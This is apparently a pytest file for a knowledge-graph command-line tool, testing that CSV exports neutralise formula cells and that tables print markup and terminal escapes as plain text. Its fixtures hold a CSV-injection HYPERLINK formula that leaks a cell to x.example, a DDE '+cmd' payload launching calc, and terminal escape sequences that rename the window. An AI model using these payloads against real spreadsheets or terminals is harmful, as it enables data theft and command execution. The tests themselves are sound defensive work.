"""What every command prints is the data and only the data: a CSV cell never starts a formula in
a spreadsheet, and a table cell is text, never rich markup or a terminal escape sequence."""
import csv
import io
import json

import pytest

from kg.cli import main
from kg.textsafe import FORMULA_STARTS

FORMULA_TITLE = '=HYPERLINK("http://x.example/?"&A1,"click")'
ESCAPE_TITLE = "\x1b]0;window renamed\x07\x1b[2J\x1b[HKabul falls"
DOCS = [
    {"id": "markup", "date": "2021-08-28", "title": FORMULA_TITLE,
     "text": "Taliban fighters attacked the National Resistance Front in Panjshir, [/quote] "
             "[link=http://x.example]a witness[/link] said."},
    {"id": "@escape", "date": "2021-08-29", "title": ESCAPE_TITLE,
     "text": "The Afghan Army fought the Taliban in Kabul, +cmd|' /c calc'!A0 said."},
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, extractor):
    from kg.api import build

    src = tmp_path_factory.mktemp("hostile") / "docs.jsonl"
    src.write_text("".join(json.dumps(d) + "\n" for d in DOCS), encoding="utf-8")
    store = src.parent / "store"
    with build([src], store=store, extractor=extractor) as graph:
        assert graph.report.errors == [] and graph.report.statements >= 2
    return str(store)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_lists_neutralise_cells_that_start_a_formula(hostile_store, capsys):
    titles = ("SELECT ?id ?title WHERE { ?d <http://purl.org/dc/terms/identifier> ?id ; "
              "<http://purl.org/dc/terms/title> ?title }")
    for argv in (["documents"], ["query", "--sparql", titles]):
        assert main(argv + ["--format", "csv", "--store", hostile_store]) == 0
        cells = _cells(capsys.readouterr().out)
        assert "'" + FORMULA_TITLE in cells and "'@escape" in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_tables_print_markup_and_escape_sequences_as_plain_text(hostile_store, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that no cell is folded
    assert main(["query", "evidence", "-p", "subject=Taliban", "-p", "object=National Resistance Front",
                 "--store", hostile_store]) == 0
    out = capsys.readouterr().out
    assert "[/quote]" in out and "[link=http://x.example]a witness[/link]" in out
    assert main(["documents", "--store", hostile_store]) == 0
    out = capsys.readouterr().out
    assert "Kabul falls" in out and "window renamed" not in out
    assert not [c for c in out if ord(c) < 32 and c != "\n" or 0x7f <= ord(c) < 0xa0]


def test_an_error_line_carries_no_escape_sequence(tmp_path, capsys):
    bad = tmp_path / "bad\x1b]0;renamed\x07.txt"
    bad.write_bytes(b"caf\xe9 not UTF-8")
    assert main(["build", str(bad), "--store", str(tmp_path / "s"), "-q"]) == 2
    err = capsys.readouterr().err
    assert "bad.txt: not UTF-8" in err and "\x1b" not in err and "\x07" not in err
